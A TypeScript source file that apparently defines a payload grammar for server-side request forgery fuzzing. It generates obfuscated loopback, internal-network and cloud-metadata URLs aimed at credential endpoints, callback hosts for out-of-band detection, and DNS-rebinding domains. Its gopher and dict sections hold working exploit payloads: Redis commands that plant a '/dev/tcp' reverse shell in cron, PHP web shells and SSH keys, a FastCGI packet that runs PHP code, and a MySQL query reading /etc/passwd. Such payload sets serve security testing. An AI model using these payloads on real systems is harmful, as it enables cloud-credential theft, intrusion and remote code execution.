/** Server-side request forgery and open redirects. A plain address of a plain site is harmless and stands nowhere here alone. */
export const SSRF = String.raw`
// Hosts that only the server can reach, in the notations that parsers of addresses accept.
ss.loop: 6× 127.0.0.1
  5× localhost
  3× ‹127.1¦127.0.1¦127.‹#0-255›.‹#0-255›.‹#1-254›¦127.127.127.127¦127.0.0.‹#2-254›¦127.000.000.1¦127.000.000.001›
  2× ‹2130706433¦‹#2130706434-2147483646›¦6425673729¦017700000001¦0177.0.0.1¦0177.0.0.0‹#1-7›¦00177.1¦0177.0.1¦0000000000000000000177.0.0.1›
  2× ‹0x7f000001¦0x7F000001¦0x7f‹%6›¦0x7f.0x0.0x0.0x1¦0x7f.0.0.1¦0x7f.1¦0x7f.0x1¦0x00000000007f000001¦0x7f.0.0x0.01¦7F000001.‹~3-6›.0x7f000001›
  2× ‹0.0.0.0¦0¦0.0¦000.000.000.000¦0x0¦0x00000000¦00000000000›
  2× ‹[::1]¦[::]¦[0:0:0:0:0:0:0:1]¦[0000::1]¦[0:0:0:0:0:0:0:0]¦[::0001]¦[::1%25lo]¦[::1%eth0]¦[::%16777216]›
  2× ‹[::ffff:127.0.0.1]¦[::ffff:7f00:1]¦[::ffff:7f00:0001]¦[0:0:0:0:0:ffff:127.0.0.1]¦[::127.0.0.1]¦[::ffff:0:127.0.0.1]¦[64:ff9b::7f00:1]¦[2002:7f00:1::]¦[::ffff:7f‹%2›:‹%3-4›]¦[0000:0000:0000:0000:0000:ffff:7f00:0001]›
  2× ‹LOCALHOST¦LocalHost¦‹mixed!localhost›¦localhost.¦localhost.localdomain¦localhost4¦ip6-localhost¦ip6-loopback¦loopback¦localhost6¦broadcasthost›
  2× ‹127.0.0.1¦127-0-0-1¦0x7f000001¦7f000001¦‹~3-8›.127.0.0.1¦www.127.0.0.1¦‹~2-6›-127-0-0-1›.‹nip.io¦sslip.io¦xip.io›
  2× ‹localtest.me¦‹~2-8›.localtest.me¦lvh.me¦‹~3-6›.lvh.me¦vcap.me¦lacolhost.com¦readme.localtest.me¦127-0-0-1.traefik.me¦localh.st¦127.0.0.1.‹~3-8›.com¦localhost.‹~3-8›.‹com¦net››
  ‹ⓛⓞⓒⓐⓛⓗⓞⓢⓣ¦①②⑦.⓪.⓪.①¦⑫7.0.0.1¦127。0。0。1¦127｡0｡0｡1¦１２７．０．０．１¦ｌｏｃａｌｈｏｓｔ¦ⓛocalhost¦loca𝓁host¦ℓocalhost¦127．1¦⓪ₓ7f.1¦lºcalhost¦⑯⑨。②⑤④。⑯⑨｡②⑤④›
  ‹%31%32%37%2e%30%2e%30%2e%31¦%6c%6f%63%61%6c%68%6f%73%74¦127%2e0%2e0%2e1¦loc%61lhost¦127.0.0.%31¦%32%31%33%30%37%30%36%34%33%33¦%6cocalhost¦127%252e0%252e0%252e1›
  127.0.0.1‹%09¦%20¦%0d¦%00¦.¦%2f¦%23¦%5c¦⇥›
ss.lan: 4× 192.168.‹#0-255›.‹#1-254›
  4× 10.‹#0-255›.‹#0-255›.‹#1-254›
  2× 172.‹#16-31›.‹#0-255›.‹#1-254›
  ‹172.17.0.‹#1-9›¦192.168.0.1¦192.168.1.1¦10.0.0.1¦10.96.0.1¦10.43.0.1¦172.18.0.‹#2-9›¦100.64.‹#0-255›.‹#1-254›¦169.254.‹#0-255›.‹#1-254›¦198.18.‹#0-1›.‹#1-254››
  ‹‹#3232235521-3232301055›¦‹#167772161-184549375›¦‹#2886729729-2887778303›¦0xc0a8‹%4›¦0x0a‹%6›¦0xac1‹%5›¦0300.0250.0‹#0-7›.0‹#1-7›¦012.‹#0-255›.‹#1-254›¦192.168.‹#1-65000›¦10.‹#1-9999999››
  [‹fc00¦fd‹%2›:‹%4›¦fe80¦fd00:‹%2-4›¦fec0›::‹%1-4›‹¦%25eth0¦:‹%1-4››]
  [‹::ffff:10.‹#0-255›.‹#0-255›.‹#1-254›¦::ffff:192.168.‹#0-9›.‹#1-254›¦::ffff:c0a8:‹%4›¦64:ff9b::0a‹%2›:‹%4››]
  ‹10¦192-168¦172-17›-‹#0-9›-‹#1-254›.‹nip.io¦sslip.io¦ip.‹~3-6›.internal›
  3× ‹ss.inner›
ss.inner: 3× ‹internal¦intranet¦admin¦redis¦db¦database¦mysql¦postgres¦mongo¦elasticsearch¦rabbitmq¦memcached¦kafka¦zookeeper¦consul¦vault¦etcd¦minio¦jenkins¦gitlab¦grafana¦prometheus¦kibana¦solr¦couchdb¦backend¦api¦auth¦cache¦queue¦backoffice¦ldap¦nexus¦sonarqube¦portainer¦registry¦web¦app›:‹ss.port›
  ‹~3-9›.‹internal¦local¦corp¦lan¦intranet¦home.arpa¦localdomain¦private¦svc¦ad.‹~3-6›.local›‹¦:‹ss.port››
  ‹kubernetes.default.svc¦kubernetes.default¦kubernetes.default.svc.cluster.local¦‹~3-9›.‹default¦kube-system¦monitoring¦‹~3-8››.svc.cluster.local¦kubernetes¦kube-dns.kube-system¦‹~3-9›.service.consul¦consul.service.consul¦vault.service.consul¦tasks.‹~3-8›¦host.docker.internal¦gateway.docker.internal¦docker.for.mac.localhost¦host.containers.internal›‹¦:‹ss.port››
  ip-10-‹#0-255›-‹#0-255›-‹#1-254›.‹ec2¦eu-west-1.compute¦us-east-1.compute¦us-west-2.compute›.internal
  ‹~3-8›.‹c.‹~3-8›-‹#100-999›.internal¦‹us-central1-a¦europe-west1-b›.c.‹~4-9›.internal¦privatelink.database.windows.net¦internal.cloudapp.net›
ss.port = 80 443 22 21 23 25 53 110 111 135 139 143 389 445 514 631 873 993 1080 1433 1521 2049 2181 2222 2375 2376 2379 3000 3128 3306 3389 4040 4369 4444 4646
  5000 5060 5432 5555 5601 5672 5900 5984 5985 6000 6066 6379 6443 7001 7077 7474 7687 8000 8001 8008 8009 8020 8025 8080 8081 8086 8088 8089 8090 8125 8161 8200
  8300 8443 8500 8501 8530 8686 8765 8888 8983 9000 9001 9042 9090 9091 9092 9093 9100 9200 9229 9300 9418 9443 9600 9999 10000 10250 10255 10256 10443 11211
  15672 15692 16686 27017 28017 32400 50000 50070 50075 61616 ‹#1-65535› ‹#1024-65535› 0
ss.aws: 7× 169.254.169.254
  ‹2852039166¦7147006462¦0xa9fea9fe¦0xA9FEA9FE¦025177524776¦0251.0376.0251.0376¦0251.254.169.254¦0251.00376.000251.0000376¦0xa9.0xfe.0xa9.0xfe¦0xA9.254.0251.0376¦169.254.43518¦169.16689662¦0xa9.16689662¦169.0xfea9fe¦425.510.425.510›
  ‹[::ffff:169.254.169.254]¦[::ffff:a9fe:a9fe]¦[0:0:0:0:0:ffff:a9fe:a9fe]¦[::169.254.169.254]¦[::a9fe:a9fe]¦[64:ff9b::a9fe:a9fe]¦[2002:a9fe:a9fe::]¦[fd00:ec2::254]¦[fd00:0ec2:0:0:0:0:0:254]¦[fd00:ec2:0::254]¦[fe80::a9fe:a9fe]›
  ‹169.254.169.254¦169-254-169-254¦a9fea9fe¦‹~3-8›.169.254.169.254¦metadata-169-254-169-254›.‹nip.io¦sslip.io¦xip.io¦traefik.me›
  ‹169.254.169.254.¦instance-data¦instance-data.ec2.internal¦metadata.nicob.net¦1ynrnhl.xip.io¦169.254.169.254.‹~3-8›.‹com¦net›¦metadata.‹~3-8›.‹com¦net›@169.254.169.254›
  ‹①⑥⑨.②⑤④.①⑥⑨.②⑤④¦⑯⑨。②⑤④。⑯⑨｡②⑤④¦１６９．２５４．１６９．２５４¦169。254。169。254¦169｡254｡169｡254¦169．254．169．254¦¹⁶⁹.²⁵⁴.¹⁶⁹.²⁵⁴›
  ‹%31%36%39.254.169.254¦169%2e254%2e169%2e254¦%31%36%39%2e%32%35%34%2e%31%36%39%2e%32%35%34¦169.254.169.%32%35%34¦169%252e254%252e169%252e254›
  169.254.169.254‹:80¦:80¦:443¦%20¦%09¦%23¦%3f›
ss.role: ‹admin¦ec2-default-ssm¦s3access¦‹~3-9›-role¦‹~3-9›¦‹^1›‹~3-8›Role¦ecsInstanceRole¦aws-elasticbeanstalk-ec2-role›
ss.metadata: 6× ‹ss.aws›/‹latest¦latest¦latest¦1.0¦20‹#08-19›-0‹#1-9›-‹#10-24›¦2018-09-24¦2021-07-15›/meta-data/‹¦¦iam/¦iam/info¦iam/security-credentials/¦iam/security-credentials/‹ss.role›¦identity-credentials/ec2/security-credentials/ec2-instance¦hostname¦local-ipv4¦public-hostname¦ami-id¦instance-id¦instance-type¦placement/region¦placement/availability-zone¦public-keys/0/openssh-key¦network/interfaces/macs/¦reservation-id¦security-groups¦block-device-mapping/¦spot/instance-action›
  3× ‹ss.aws›/latest/‹user-data¦user-data/¦dynamic/instance-identity/‹document¦pkcs7¦signature›¦api/token¦dynamic/¦dynamic/fws/instance-monitoring¦›
  2× ‹ss.aws›/
  ‹ss.aws›
  169.254.170.2/v‹#2-4›/‹credentials‹¦/‹%8›-‹%4›-‹%4›-‹%4›-‹%12››¦metadata¦task¦stats¦‹%32›-‹#1000000000-4000000000›/task›
  169.254.170.23/v1/credentials
  3× ‹metadata.google.internal¦metadata.google.internal¦metadata¦metadata.google.internal.¦METADATA.google.internal¦‹ss.aws›¦169.254.169.254›/computeMetadata/v1‹¦beta1›/‹¦?recursive=true¦?recursive=true&alt=‹json¦text›¦instance/¦instance/service-accounts/default/‹token¦identity?audience=‹~3-8›¦email¦scopes¦aliases›¦instance/service-accounts/?recursive=true¦instance/hostname¦instance/id¦instance/zone¦instance/attributes/‹kube-env¦ssh-keys¦startup-script¦?recursive=true¦kubeconfig¦user-data›¦project/project-id¦project/numeric-project-id¦project/attributes/ssh-keys¦instance/disks/?recursive=true¦instance/network-interfaces/0/ip¦oslogin/users›
  metadata.google.internal/‹0.1/meta-data/¦¦computeMetadata/¦0.1/meta-data/authorized-keys¦computeMetadata/v1/instance/guest-attributes/›
  2× ‹ss.aws›/metadata/‹instance?api-version=20‹#17-23›-‹04-02¦08-01¦02-01¦12-01›‹¦&format=text›¦instance/compute?api-version=20‹#17-23›-‹08¦04›-01¦identity/oauth2/token?api-version=2018-02-01&resource=https://‹management.azure.com¦vault.azure.net¦storage.azure.com¦graph.microsoft.com›/¦attested/document?api-version=20‹#18-21›-09-01¦scheduledevents?api-version=2019-08-01¦loadbalancer?api-version=2020-10-01¦v1/maintenance¦instance/network/interface/0/ipv4/ipAddress/0/publicIpAddress?api-version=2017-08-01&format=text›
  ‹168.63.129.16/‹machine/?comp=goalstate¦machine?comp=versions¦?comp=versions¦metadata/latest›¦168.63.129.16:32526/vmSettings›
  2× ‹100.100.100.200¦1684301000¦0x646464c8¦0144.0144.0144.0310¦[::ffff:6464:64c8]›/latest/‹meta-data/¦meta-data/ram/security-credentials/‹¦‹~3-9››¦meta-data/instance-id¦meta-data/image-id¦user-data¦dynamic/instance-identity/document¦meta-data/zone-id¦meta-data/network/interfaces/¦meta-data/hostname›
  ‹ss.aws›/metadata/v1‹.json¦/¦/id¦/user-data¦/hostname¦/region¦/interfaces/public/0/ipv4/address¦/dns/nameservers¦/floating_ip/ipv4/active¦/vendor-data›
  ‹169.254.169.254¦192.0.0.192¦‹ss.aws››/opc/v‹1¦2›/‹instance/¦instance/metadata/¦identity/cert.pem¦identity/key.pem¦vnics/¦instance/region›
  192.0.0.192/latest/‹meta-data/¦user-data/¦attributes/›
  ‹ss.aws›/openstack/‹latest¦20‹#12-18›-0‹#1-9›-‹#10-28››/‹meta_data.json¦user_data¦network_data.json¦password¦vendor_data.json¦securitykey›
  ‹ss.aws›/‹hetzner/v1/metadata‹¦/private-networks¦/hostname¦/user-data›¦v1.json¦v1/interfaces/0/ipv4/address¦v1/token¦v1/instance¦metadata/v1/instance/initialization¦instance_identity/v1/token?version=2022-03-08¦meta-data/latest/uuid¦cloudstack/latest/meta-data¦2009-04-04/user-data¦metadata/v1/maintenance›
  ‹metadata.packet.net/userdata¦metadata.platformequinix.com/metadata¦metadata.tencentyun.com/‹latest/meta-data/¦meta-data/cam/security-credentials/‹~3-8››¦169.254.0.23/meta-data/¦169.254.0.3/meta-data/¦169.254.42.42/conf?format=json¦169.254.42.42/user_data¦rancher-metadata/‹latest¦20‹#15-16›-07-25›/¦169.254.169.250/latest/¦api.metadata.cloud.ibm.com/metadata/v1/instance¦169.254.169.255/latest/meta-data›
ss.admin: 2× ‹ss.port›/
  ‹80¦8080¦8000¦443¦5000›/‹admin¦admin/‹~3-9›¦internal¦private¦manage¦api/internal/‹~3-9›¦admin/delete?username=‹~3-8›¦console¦debug¦status¦metrics¦server-status¦server-info¦nginx_status¦phpinfo.php¦api/v1/users¦.env¦.git/config¦flag¦flag.txt¦secret¦robots.txt›
  8080/‹manager/html¦script¦computer/(master)/script¦job/‹~3-8›/build?token=‹~3-6›¦jolokia/exec/java.lang:type=Memory/gc¦jmx-console/¦actuator/‹env¦heapdump¦gateway/routes›¦securityRealm/user/admin/descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox.groovy.SecureGroovyScript/checkScript?value=‹~3-8››
  237‹5¦6›/‹version¦info¦images/json¦containers/json?all=1¦v1.24/containers/json¦v1.4‹#0-4›/containers/create¦containers/‹%12›/‹exec¦logs?stdout=1¦archive?path=/›¦secrets¦_ping¦services›
  ‹6443¦8080¦8001¦443›/‹api/v1/‹namespaces/‹kube-system¦default¦‹~3-8››/‹secrets¦pods¦configmaps¦serviceaccounts›¦nodes¦secrets¦pods›¦apis/apps/v1/deployments¦version¦healthz¦swagger.json›
  1025‹0¦5›/‹pods¦runningpods/¦run/‹kube-system¦default›/‹~3-8›/‹~3-8›¦exec/‹~3-8›/‹~3-8›/‹~3-8›?command=id&output=1¦metrics¦stats/summary¦spec/¦logs/›
  2379/‹v2/keys/?recursive=true¦v2/keys/‹~3-8›¦version¦v3/kv/range¦v2/members¦health›
  8500/v1/‹agent/self¦agent/service/register¦kv/?recurse¦kv/‹~3-8›?raw¦catalog/‹services¦nodes›¦agent/check/register¦acl/list¦internal/ui/nodes¦operator/raft/configuration›
  8200/v1/‹sys/health¦sys/seal-status¦secret/data/‹~3-8›¦sys/init¦auth/token/lookup-self¦sys/internal/ui/mounts›
  9200/‹_cat/‹indices?v¦nodes¦shards›¦_search?q=‹*¦password¦‹~3-8››¦_cluster/‹health¦settings¦state›¦_nodes¦_all/_search¦_shutdown¦‹~3-8›/_search?pretty¦_snapshot/_all¦_plugin/head/›
  8983/solr/‹admin/cores¦‹~3-8›/select?q=*:*&shards=‹ss.lan›:‹port›/solr/¦admin/info/system¦‹~3-8›/dataimport?command=full-import¦‹~3-8›/config¦‹~3-8›/debug/dump?param=ContentStreams&stream.url=file:///etc/passwd¦admin/collections?action=LIST›
  5984/‹_all_dbs¦_users/_all_docs¦_utils/¦_config¦_node/_local/_config/admins¦_session›
  ‹9090¦9093¦9100¦3000¦5601¦15672¦4040›/‹api/v1/‹targets¦status/config¦query?query=up¦admin/tsdb/snapshot›¦metrics¦api/datasources¦api/users¦app/kibana¦api/overview¦api/whoami¦jobs/¦api/console/proxy?path=_search&method=GET›
  ‹8088/ws/v1/cluster/apps/new-application¦50070/webhdfs/v1/?op=LISTSTATUS¦8088/cluster¦7077/¦6066/v1/submissions/create¦8081/‹jars/upload¦jobmanager/config¦service/rest/v1/repositories›¦8020/¦16010/master-status¦9001/2018-06-01/runtime/invocation/next¦8126/info¦8888/v3/api-docs›
  ‹7001/‹uddiexplorer/SearchPublicRegistries.jsp?operator=http://‹ss.lan›:‹ss.port›&rdoSearch=name¦console/¦wls-wsat/CoordinatorPortType›¦8161/‹admin/¦api/jolokia/¦fileserver/a.txt›¦61616/¦4848/common/index.jsf¦9990/management¦1099/›
  ‹4646/v1/‹jobs¦agent/self›¦8086/query?q=SHOW%20DATABASES¦8123/?query=SELECT%201¦5000/v2/_catalog¦9001/minio/¦8080/zabbix/¦9229/json/list¦9222/json/‹version¦new?file:///etc/passwd¦list›¦4243/containers/json¦8265/api/‹jobs/¦cluster_status›¦6333/collections¦11434/api/tags¦8888/api/contents¦18080/api/v1/applications›
  ‹22¦25¦110¦143¦3306¦5432¦6379¦11211¦27017¦5900¦3389¦445›‹¦/‹~1-6›¦/›
ss.secret: 4× ‹ss.metadata›
  4× ‹ss.loop›:‹ss.admin›
  3× ‹ss.lan›‹¦:‹ss.port››/‹admin¦‹~3-9›¦manager/html¦api/‹~3-9›¦¦¦status¦login.php¦cgi-bin/luci¦setup.cgi¦index.php›
  ‹ss.loop›/‹admin¦server-status¦manager/html¦phpmyadmin/¦internal/‹~3-9›¦‹~3-9›.php¦¦debug/pprof/¦flag¦latest/meta-data/¦console›
  ‹ss.lan›:‹ss.admin›
  2× ‹ss.loop›:‹ss.port›
ss.scheme: 8× http
  2× https
  ‹HTTP¦hTTp¦Http¦‹mixed!http›¦httP›
  ‹http:http¦url:http¦view-source:http¦feed:http¦blob:http¦jar:http¦url=http¦␠http¦http\›
ss.slashes = :// :// :// :// :// :// :// :// :/ : :\\ :\ :/// :\/\/ :///// :/\/ %3a%2f%2f %3A%2F%2F :%2f%2f :\/ ://// %253a%252f%252f :/%09/ :%5c%5c
ss.url: 10× ‹ss.scheme›://‹ss.secret›
  2× ‹ss.scheme›‹ss.slashes›‹ss.secret›
  ‹ss.scheme›://‹ss.secret›‹#¦#.‹jpg¦png¦pdf›¦?.png¦?‹~1-4›=‹~1-5›¦%00¦%23¦%3f.jpg¦#@‹~3-8›.com¦;.jpg¦%20¦&¦?‹.jpg¦a=.css¦@‹~3-8›.com››
  //‹ss.secret›
  ‹http¦https›://‹~3-7›:‹*3-8›@‹ss.secret›
  ‹percent!http://‹ss.secret››
  http://‹×1-3:‹%0d¦%0a¦%09¦%20¦⇥¦␠››‹ss.secret›
  ‹␠¦⇥¦%20¦%09¦%0a¦\¦"¦'¦<¦(›http://‹ss.secret›‹¦"¦'¦>¦)›

ss.out: ‹¦‹~3-8›.¦‹~2-5›-‹%4-8›.¦‹#1-9›.›‹~8-32›.‹oast.‹fun¦pro¦me¦live¦online¦site¦today›¦burpcollaborator.net¦oastify.com¦interact.sh¦interactsh.com¦dnslog.cn¦dnslog.link¦ceye.io¦requestbin.net¦eyes.sh¦bxss.me¦r87.me¦dnsbin.zhack.ca¦canarytokens.com¦pingb.in¦log.nat.cloudns.cc¦xss.ht¦webhook.site¦requestrepo.com¦tupl.nl›
  c‹*18-32›.oast.‹fun¦pro¦me¦live¦site¦online›
  ‹*16-24›.‹ceye.io¦dnslog.cn¦oastify.com¦interact.sh›
  ‹¦¦www.›‹interact.sh¦oast.‹me¦pro¦fun¦live¦site¦online›¦burpcollaborator.net¦oastify.com¦dnslog.cn›
ss.rebind: ‹7f000001¦c0a80001¦a9fea9fe¦0a000001›.‹%8›.rbndr.us
  ‹A.127.0.0.1.1time.169.254.169.254.1time.repeat.‹%6›¦make-‹#1-255›.‹#0-255›.‹#0-255›.‹#1-255›-rebind-127.0.0.1-rr¦A.‹ip›.1time.127.0.0.1.forever.‹%8›-‹%4›¦s-‹ip›-127.0.0.1-‹~3-7›-fs-e.d›.‹1u.ms¦rebind.network¦‹~3-8›.com›
  ‹~3-8›.‹rebind.it¦1u.ms¦rebinder.‹~3-6›.com¦dynamic.rbndr.us›
ssrf/metadata [value] 8: 5× ‹ss.scheme›://‹ss.metadata›
  2× http‹ss.slashes›‹ss.metadata›
  2× ‹ss.metadata›
  //‹ss.metadata›
  ‹gopher://169.254.169.254:80/_‹percent!‹PUT /latest/api/token HTTP/1.1␍⏎Host: 169.254.169.254␍⏎X-aws-ec2-metadata-token-ttl-seconds: ‹#60-21600›␍⏎␍⏎¦GET /computeMetadata/v1/instance/service-accounts/default/token HTTP/1.1␍⏎Host: metadata.google.internal␍⏎Metadata-Flavor: Google␍⏎␍⏎››¦ftp://‹ss.aws›/¦dict://‹ss.aws›:80/›
  ‹percent!http://‹ss.metadata››
  http://‹~3-8›.‹com¦net›‹@¦:80@¦%40¦&@›‹ss.metadata›
  http://‹~3-7›:‹*3-8›@‹ss.metadata›
  http://‹ss.metadata›‹#¦?¦%23¦.json¦#.png¦?.jpg¦&‹~1-4›=‹~1-5››
  ‹b64!http://‹ss.metadata››
  ‹~3-8›,http://‹ss.metadata›
  ‹ss.scheme›://‹ss.rebind›/‹latest/meta-data/¦computeMetadata/v1/¦›
ssrf/local [value] 7: ‹ss.scheme›://‹ss.loop›:‹ss.admin›
  2× ‹ss.scheme›://‹ss.loop›‹¦:‹ss.port››/‹admin¦‹~3-9›¦¦¦server-status¦admin/‹~3-8››
  http‹ss.slashes›‹ss.loop›:‹ss.admin›
  2× ‹http¦http¦https›://‹ss.loop›‹¦/¦:‹ss.port›¦:‹ss.port›/›
  // Of any host, a number that nobody types: what it hides is where it leads.
  http://‹‹#167772160-4294967295›¦0x‹%8››‹¦/¦:‹ss.port›¦/‹~3-8››
  ‹ss.loop›:‹ss.port›
  //‹ss.loop›:‹ss.port›/‹~3-8›
  http://‹ss.loop›:‹ss.port›‹#¦?¦%00¦#.jpg¦/?.png¦%2f›
  ‹ftp¦ws¦wss¦smb¦telnet¦ssh¦smtp¦redis¦mysql¦postgres¦mongodb¦amqp¦rtsp›://‹ss.loop›:‹ss.port›‹¦/¦/‹~3-8››
  http://‹~2-8›‹:‹~2-8›¦›@‹ss.loop›‹¦:‹ss.port››/
  http://‹ss.rebind›‹¦:‹ss.port››/‹~3-8›
  ‹percent!http://‹ss.loop›:‹ss.admin››
ssrf/lan [value] 5: 4× ‹ss.scheme›://‹ss.lan›:‹ss.admin›
  ‹ss.scheme›://‹ss.lan›:‹ss.port›/‹admin¦‹~3-8›¦manager/html›
  ‹ss.scheme›://‹ss.inner›/‹‹~3-8›¦admin¦api/‹~3-8›¦metrics¦health¦secrets¦config¦env›
  http://‹~2-8›@‹ss.lan›‹¦:‹ss.port››/
  http‹ss.slashes›‹ss.lan›:‹ss.port›/
  ‹dict¦ftp¦telnet¦ssh¦smb¦redis¦mysql¦ldap¦tftp¦sftp¦gopher›://‹ss.lan›:‹ss.port›/‹¦_‹~3-8››
  https://kubernetes.default.svc/‹api/v1/namespaces/‹default¦kube-system¦‹~3-8››/‹secrets¦pods¦configmaps›¦version¦apis›
  http://‹192.168.‹#0-9›¦10.‹#0-9›.‹#0-9›¦172.17.0›.‹§¦{}¦FUZZ¦‹#1-254›-‹#1-254›¦[1-254]›:‹ss.port›/
ssrf/outside [value] 6: 4× ‹http¦https›://‹ss.out›‹¦/¦/‹~1-8›¦/?‹~1-5›=‹rnd›¦/‹rnd›.‹png¦svg¦dtd¦xml¦js¦pdf¦txt›¦:‹ss.port›/›
  //‹ss.out›‹¦/¦/‹~1-6››
  ‹ss.out›‹¦/‹~1-6›¦:‹ss.port››
  http‹ss.slashes›‹ss.out›/‹~1-5›
  ‹ftp¦gopher¦dict¦ldap¦ldaps¦tftp¦sftp¦smb¦rmi¦dns¦ws¦jar:http¦netdoc:http¦git¦ssh¦imap¦smtp¦rtsp›‹://¦:¦:/›‹ss.out›‹¦:‹ss.port››‹¦/‹~1-6››
  http://‹‹~2-6›:‹~2-6›@¦‹~3-8›.com@¦127.0.0.1@¦localhost:80@¦169.254.169.254@¦‹~3-8›.com%40›‹ss.out›/
  ‹~2-8›@‹ss.out›
  ‹percent!http://‹ss.out›/‹~1-6››
  \\‹ss.out›\‹~2-6›
  ‹~2-6›.‹~3-9›.‹com¦net›.‹ss.out›
  ‹http¦https›://‹ss.out›?‹ip¦host¦~1›=‹rnd›&cb=‹n›

ss.redis: ‹flushall¦FLUSHALL¦info¦INFO¦keys *¦config get *¦save¦quit¦dbsize¦client list›
  set ‹~1-6› ‹"⏎⏎*/1 * * * * bash -i >& /dev/tcp/‹ip›/‹port› 0>&1⏎⏎"¦"<?php ‹phpinfo();¦system(§_GET['‹~1-3›']);¦eval(§_POST[‹~1-3›]);› ?>"¦"⏎⏎ssh-rsa AAAAB3NzaC1yc2E‹*20-60›⏎⏎"¦‹rnd››
  config set dir /‹var/spool/cron/¦var/www/html¦root/.ssh/¦tmp¦etc/cron.d›
  config set dbfilename ‹root¦‹~2-6›.php¦authorized_keys¦‹~2-6›.so¦crontab›
  ‹slaveof¦replicaof› ‹ip› ‹port›
  module load /tmp/‹~2-6›.so
  eval "‹return redis.call('keys','*')¦os.execute('id')¦local ‹~1›=1›" 0
  auth ‹*4-10›
ss.redisall: ‹×1-5␍⏎:‹ss.redis››␍⏎‹¦save␍⏎›‹quit␍⏎¦›
  *‹#1-4›␍⏎§8␍⏎flushall␍⏎*3␍⏎§3␍⏎set␍⏎§1␍⏎‹#1-9›␍⏎§‹#20-99›␍⏎‹ss.redis›␍⏎*4␍⏎§6␍⏎config␍⏎§3␍⏎set␍⏎§3␍⏎dir␍⏎§‹#10-20›␍⏎/var/‹spool/cron/¦www/html›␍⏎
ss.talk: 4× ‹ss.redisall›
  ‹GET¦POST¦PUT¦DELETE¦PURGE› /‹‹~3-8›¦admin/‹~3-8›¦containers/create¦api/‹~3-8›¦solr/admin/cores› HTTP/1.‹#0-1›␍⏎Host: ‹ss.lan›␍⏎‹Content-Type: application/‹json¦x-www-form-urlencoded›␍⏎¦Cookie: ‹~2-6›=‹rnd›␍⏎¦Authorization: Basic ‹b64!‹~3-6›:‹~3-8››␍⏎¦›‹Content-Length: ‹#5-99›␍⏎␍⏎‹~1-6›=‹rnd›¦␍⏎›
  ‹HELO¦EHLO› ‹host›␍⏎MAIL FROM:<‹~3-7›@‹host›>␍⏎RCPT TO:<‹~3-7›@‹host›>␍⏎DATA␍⏎Subject: ‹word›␍⏎␍⏎‹rnd›␍⏎.␍⏎QUIT␍⏎
  ‹stats¦stats items¦version¦flush_all¦set ‹~1-6› 0 ‹#0-900› ‹#1-40›␍⏎‹rnd›¦delete ‹~3-8››␍⏎
  USER ‹~3-7›␍⏎PASS ‹*4-9›␍⏎‹LIST¦PORT ‹#1-223›,‹#0-255›,‹#0-255›,‹#1-254›,‹#4-250›,‹#0-255›¦STOR ‹~2-6›.php¦RETR /etc/passwd›␍⏎
  ruok␍⏎
  ‹stat¦envi¦dump¦conf¦mntr›␍⏎
  zabbix_get -k 'system.run[‹id¦ls¦curl ‹host››]'
  system.run[(‹id¦sleep ‹#1-9››);]
ss.fastcgi: %01%01%00%01%00%08%00%00%00%01%00%00%00%00%00%00%01%04%00%01%0‹#1-9›%‹%2›%0‹#0-9›%00%0F%10SERVER_SOFTWAREgo%20/%20fcgiclient%20%0B%09REMOTE_ADDR127.0.0.1%0F%08SERVER_PROTOCOLHTTP/1.1%0E%02CONTENT_LENGTH‹#10-99›%0E%04REQUEST_METHODPOST%09KPHP_VALUEallow_url_include%20%3D%20On%0Adisable_functions%20%3D%20%0Aauto_prepend_file%20%3D%20php%3A//input%0F%17SCRIPT_FILENAME/‹var/www/html/index.php¦usr/share/php/PEAR.php›%0D%01DOCUMENT_ROOT/%00%00%01%04%00%01%00%00%00%00%01%05%00%01%00%‹%2›%04%00%3C%3Fphp%20‹system%28%27id%27%29¦phpinfo%28%29¦eval%28§_POST%5B1%5D%29›%3B%3F%3E
ss.mysql: %a3%00%00%01%85%a6%ff%01%00%00%00%01%21%00%00%00%00%00%00%00%00%00%00%00%00%00%00%00%00%00%00%00%00%00%00%00‹root¦‹~3-8››%00%00mysql_native_password%00‹%‹%2›%00%00%00%03‹percent!select ‹version()¦* from ‹tab›¦load_file('/etc/passwd')››¦›%01%00%00%00%01
ssrf/gopher [value] 5: 4× ‹gopher¦gopher¦Gopher¦GOPHER¦gophers›://‹‹ss.loop›¦‹ss.lan››:‹6379¦80¦25¦11211¦8080¦21¦2375¦9200¦‹ss.port››/_‹percent!‹ss.talk››
  gopher://‹ss.loop›:‹25¦6379¦80›/‹~1›‹percent!‹percent!‹ss.talk›››
  gopher://‹ss.loop›:9000/_‹ss.fastcgi›
  gopher://‹ss.loop›:‹9000¦9001›/_‹percent!‹ss.fastcgi››
  gopher://‹ss.loop›:3306/_‹ss.mysql›
  gopher://‹‹host›¦‹ip››:‹ss.port›/‹_‹percent!‹ss.talk››¦_‹~1-8›¦1‹~3-8›¦›
  gopher:‹///¦/¦›‹ss.loop›:6379/_‹×1-4%0d%0a:‹flushall¦info¦SET%20‹~1-5›%20‹rnd›¦config%20set%20dir%20/tmp¦save¦quit››%0d%0a
  gopher://‹ss.loop›:‹ss.port›/_‹×1-8:%‹%2››
  gopher://‹ss.loop›:6379/_‹percentAll!‹ss.redis››
ssrf/scheme [value] 5: 3× dict://‹‹ss.loop›¦‹ss.lan››:‹6379¦11211¦22¦25¦9200¦‹ss.port››/‹info¦stats¦INFO¦config:‹set¦get›:‹dir:/var/www/html¦dbfilename:‹~2-6›.php¦*›¦set:‹~1-5›:"‹\x3c?php phpinfo()?\x3e¦‹rnd›"›¦SLAVEOF:‹ip›:‹port›¦SAVE¦show:db¦d:‹~3-8›¦HELO:‹~2-6›¦version¦flushall¦keys:*¦›
  dict://‹~3-7›;‹~3-8›@‹ss.loop›:‹ss.port›/d:‹word›:‹~2-5›:‹#1-9›
  2× ‹ldap¦ldaps¦ldapi¦cldap›://‹‹ss.loop›¦‹ss.lan›¦‹ss.out››:‹389¦636¦1389¦‹ss.port››/‹%0astats%0aquit¦dc=‹~3-6›,dc=com??sub?(objectClass=*)¦‹~2-8›¦cn=‹~3-8›?userPassword?base?›
  ldapi://%2fvar%2frun%2f‹slapd¦ldapi›.sock
  tftp://‹‹host›¦‹ss.lan›¦‹ss.loop››:‹69¦‹ss.port››/‹~3-9›‹;mode=octet¦%0d%0a¦›
  ‹sftp¦ssh¦scp¦rsync¦git+ssh¦svn+ssh›://‹¦‹~3-7›@¦‹~3-7›:‹~3-7›@›‹‹host›¦‹ss.lan›¦‹ss.loop››:‹22¦2222¦‹ss.port››/‹¦‹~3-8›¦~/.ssh/id_rsa¦etc/passwd›
